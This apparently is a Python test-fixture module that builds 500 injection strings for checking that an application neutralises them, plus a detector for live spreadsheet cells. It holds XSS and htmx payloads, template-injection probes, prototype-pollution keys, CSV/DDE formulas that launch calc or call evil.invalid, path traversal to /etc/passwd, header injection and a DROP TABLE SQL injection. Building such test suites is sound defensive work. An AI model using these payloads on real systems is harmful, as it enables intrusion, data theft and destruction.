"""Five hundred texts that want to be more than text, and what must not be found of them.

A text that runs sets ``ran``; one that becomes markup leaves an element with an attribute ``ran``;
one that a template works out leaves a product; one that asks for something asks ``evil.invalid``;
one that a spreadsheet takes for a formula begins like one.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from random import Random

PRODUCT = str(1337 * 1337)
MANY = 500

_OUT = (
    *("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</template>"),
    *("</option></select>", "</svg>", "</noscript>", "</style>", "</button></form>", '\\">'),
)
_TAGS = (
    "<script ran>ran=1</script>",
    "<svg ran onload=ran=1>",
    "<img ran src=x onerror=ran=1>",
    "<x-ran ran hx-get=//evil.invalid/a hx-trigger=load>",
    "<ScRiPt ran src=//evil.invalid/a.js></sCrIpT>",
    "<iframe ran srcdoc='<script>parent.ran=1</script>'>",
    "<p ran hx-on::load=ran=1 hx-on:htmx:load=ran=1>",
    "<input ran autofocus onfocus=ran=1>",
    "<details ran open ontoggle=ran=1>",
    "<a ran href=javascript:ran=1>x</a>",
    "<img ran src=//evil.invalid/a.png>",
    "<p ran data-hx-get=//evil.invalid/b data-hx-trigger=load>",
    "<object ran data=javascript:ran=1>",
    "<base ran href=//evil.invalid/>",
    "<meta ran http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link ran rel=stylesheet href=//evil.invalid/a.css>",
    "<style ran>*{background:url(//evil.invalid/a)}</style>",
    "<form ran action=//evil.invalid/a><button autofocus>x</button>",
    "<p ran hx-vals='js:{a:ran=1}' hx-post=/name hx-trigger=load>",
    "<video ran src=//evil.invalid/a.ogg onerror=ran=1>",
    "<math ran><mtext><img ran src=x onerror=ran=1></math>",
    "<embed ran src=data:text/html,<script>parent.ran=1</script>>",
    "<p ran style=width:expression(ran=1)>",
    "<marquee ran onstart=ran=1>",
    "<svg ran><animate onbegin=ran=1 attributeName=x dur=1s>",
)
_INSIDE = (
    '" ran onmouseover="ran=1',
    "' ran autofocus onfocus='ran=1",
    '" ran style="background:url(//evil.invalid/a)',
    '" ran hx-get="//evil.invalid/a" hx-trigger="load',
    "' ran hx-on::load='ran=1",
    "x ran onerror=ran=1",
    "` ran onerror=ran=1",
    '" ran src="x" onerror="ran=1',
    "' ran formaction='javascript:ran=1",
    '" ran href="javascript:ran=1',
    '"/ran/onpointerenter="ran=1',
    "&quot; ran onload=&quot;ran=1",
    "&#34; ran onload=&#34;ran=1",
    "&lt;img ran src=x onerror=ran=1&gt;",
    "%3Cimg%20ran%20src=x%20onerror=ran=1%3E",
    "＜img ran src=x onerror=ran=1＞",
    "\\x3cimg ran src=x onerror=ran=1\\x3e",
    "+ADw-script ran+AD4-ran=1+ADw-/script+AD4-",
)
_ADDRESSES = (
    "javascript:ran=1",
    "JaVaScRiPt:ran=1",
    " javascript:ran=1",
    "java\tscript:ran=1",
    "java\nscript:ran=1",
    "\x01javascript:ran=1",
    "javascript&colon;ran=1",
    "javascript://evil.invalid/%0Aran=1",
    "vbscript:ran=1",
    "data:text/html,<script>opener.ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran=1'/>",
    "//evil.invalid/a",
    "\\\\evil.invalid\\a",
    'https://evil.invalid/" ran onclick="ran=1',
    "https://evil.invalid/'><script ran>ran=1</script>",
    "blob:https://evil.invalid/a",
    "https://evil.invalid\\@127.0.0.1/",
)
_TEMPLATES = (
    *("{{1337*1337}}", "{{ 1337*1337 }}", "{% print(1337*1337) %}", "${1337*1337}", "#{1337*1337}"),
    *("<%= 1337*1337 %>", "[[1337*1337]]", "*{1337*1337}", "@(1337*1337)", "{{=1337*1337}}"),
    *("{{''.__class__.__mro__}}", "{{config}}", "{%raw%}{{1337*1337}}{%endraw%}", "{#x#}"),
    *("{0.__class__}", "{name}", "%(name)s", "%s%n%x", "${{1337*1337}}", "{{{1337*1337}}}"),
)
_JSON = (
    '"}]}</script><script ran>ran=1</script>',
    '"};ran=1;//',
    "'];ran=1;//",
    '\\";ran=1;//',
    "\\u003cscript ran\\u003eran=1\\u003c/script\\u003e",
    "\u2028ran=1\u2028//",
    "\u2029ran=1//",
    "</script\t><script ran>ran=1</script >",
    "<!--<script ran>ran=1//-->",
    '{"__proto__":{"ran":1}}',
    "constructor",
    "__proto__",
    "toString",
)
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    "\u00a0=",
    "\n=",
)
_CALLS = (
    *("1337*1337", "cmd|' /C calc'!A0", 'HYPERLINK("//evil.invalid/","x")', "SUM(1337*1337)"),
    *('DDE("cmd";"/C calc";"x")', 'IMPORTXML("//evil.invalid/","//a")', "1"),
)
_TURNED = (
    *("\u202e", "\u2066", "\u2067", "\u200f", "\u061c", "\u200b", "\u2060", "\u00ad", "\ufe0f"),
    *(
        "\u05e9\u05dc\u05d5\u05dd ",
        "\u0645\u0631\u062d\u0628\u0627 ",
        "e" + "\u0301" * 20,
        "\ufffd",
    ),
)
_MARKED = (
    "[x](javascript:ran=1)",
    "![x](//evil.invalid/x.png)",
    "<javascript:ran=1>",
    "[x]: //evil.invalid/a 'x'",
    '<a ran href="//evil.invalid/">x</a>',
    "`<img ran src=x onerror=ran=1>`",
    "*x*<svg ran onload=ran=1>**",
    "/* */</style><style ran>*{width:expression(ran=1)}</style>",
    "url(javascript:ran=1)",
    "../../etc/passwd",
    "a.png\r\nSet-Cookie: ran=1",
    'a"; filename="ran.html',
    "' OR 1=1; DROP TABLE players; --",
    "/%2e%2e/%2e%2e/a",
    "#ran",
    "?next=//evil.invalid/",
)


def texts(count: int = MANY) -> tuple[str, ...]:
    """Return so many of them, each another, and of every sort as many while there are any."""
    dice = Random(1337)
    sorts = [
        [out + tag for tag in _TAGS for out in _OUT],
        [start + call for call in _CALLS for start in STARTS],
        [sign + tag for tag in _TAGS for sign in _TURNED],
        *map(list, (_INSIDE, _ADDRESSES, _TEMPLATES, _JSON, _MARKED)),
    ]
    for sort in sorts:
        dice.shuffle(sort)
    rows = itertools.zip_longest(*sorts)
    every = dict.fromkeys(text for row in rows for text in row if text is not None)
    return tuple(itertools.islice(every, count))


def live_cells(data: bytes, marks: str = ",;\t") -> list[str]:
    """Return what of a CSV, or of a workbook, a spreadsheet would work out, follow or fetch.

    ``marks`` are what it may take for the end of a cell.
    """
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            parts = {name: book.read(name) for name in book.namelist()}
        signs = (b"<f>", b"<f ", b"<hyperlink", b"ddeLink", b"externalLink", b"TargetMode")
        return [f"{sign!r} in {name}" for name, part in parts.items() for sign in signs
                if sign in part]  # fmt: skip
    text = data.decode("utf-8-sig")
    rows = itertools.chain.from_iterable(
        csv.reader(io.StringIO(text, newline=""), delimiter=mark) for mark in marks
    )
    return [cell for row in rows for cell in row if _is_live(cell)]


def _is_live(cell: str) -> bool:
    begins = re.match(r"[\s\x00]*[=+\-@＝＋－＠]|[\t\r\n]", cell)
    return bool(begins) and not re.fullmatch(r"-?[\d.]+", cell)
